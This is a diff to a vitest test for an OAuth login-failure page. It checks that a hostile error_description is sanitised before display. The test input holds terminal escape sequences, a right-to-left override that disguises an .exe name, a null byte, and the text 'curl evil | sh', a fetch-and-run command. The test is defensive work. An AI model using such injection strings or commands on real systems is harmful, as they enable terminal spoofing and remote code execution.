@@ -3,6 +3,7 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { startEmulator } from "../../../emulator/mod.ts";
 import { serveApp } from "./_serve.ts";
+import { CONTROL_CHARACTERS } from "../../helpers/text.ts";
 
 const HOSTILE = "\x1b]0;pwned\x07\x1b[2Jrun \x1b[31mcurl evil | sh\x1b[0m \u202Egnp.exe\x00";
 let emu: Awaited<ReturnType<typeof startEmulator>>;
@@ -15,11 +16,13 @@ describe("the login failed page", () => {
     try {
       const login = await fetch(`${served.origin}/login`, { redirect: "manual" });
       const state = new URL(login.headers.get("location")!).searchParams.get("state")!;
-      const page = await fetch(`${served.origin}/callback?error=access_denied&error_description=${encodeURIComponent(HOSTILE)}&state=${state}`);
+      const page = await fetch(
+        `${served.origin}/callback?error=access_denied&error_description=${encodeURIComponent(HOSTILE)}&state=${state}`,
+      );
       const body = await page.text();
       expect(page.status).toBe(400);
       expect(body).toContain("refused the login: access_denied (run curl evil | sh gnp.exe)");
-      expect(body).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
+      expect(body).not.toMatch(CONTROL_CHARACTERS);
       expect(await served.finished).toBeInstanceOf(Error);
     } finally {
       await served.stop();
